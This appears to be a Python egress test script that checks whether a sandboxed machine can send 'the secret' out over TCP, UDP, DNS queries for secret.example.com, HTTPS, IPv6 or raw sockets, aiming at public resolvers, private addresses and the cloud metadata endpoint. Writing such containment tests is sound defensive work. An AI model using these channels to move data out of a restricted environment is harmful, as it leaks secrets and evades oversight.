"""Something is to leave the machine: over TCP, over UDP, in the question of a name server, through a raw socket."""

import socket
import struct

from src.attempts import attempt, demand, targets

QUESTION = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\x06secret\x07example\x03com\x00" + struct.pack(">2H", 1, 1)
OUTSIDE = (targets["address"], "1.1.1.1", "8.8.8.8", "10.0.0.1", "169.254.169.254", "172.17.0.1", "192.168.1.1")


def tcp(address, port):
    with socket.create_connection((address, port), timeout=1) as connection:
        connection.sendall(b"the secret")
        return connection.getpeername()


def udp(address, port, message):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(1)
        sender.connect((address, port))
        sender.send(message)
        return demand(sender.recv(512))


def raw():
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW)


for address in OUTSIDE:
    attempt(f"TCP to {address}", tcp, address, targets["tcp"])
    attempt(f"UDP to {address}", udp, address, targets["udp"], b"the secret")
    attempt(f"DNS at {address}", udp, address, targets["udp"], QUESTION)
for address in ("1.1.1.1", "8.8.8.8"):
    attempt(f"HTTPS to {address}", tcp, address, 443)
    attempt(f"name server {address}", udp, address, 53, QUESTION)
attempt("name lookup", socket.getaddrinfo, "secret.example.com", 443)
attempt("IPv6", lambda: socket.create_connection(("2606:4700:4700::1111", 443), timeout=1))
attempt("raw packets", raw)
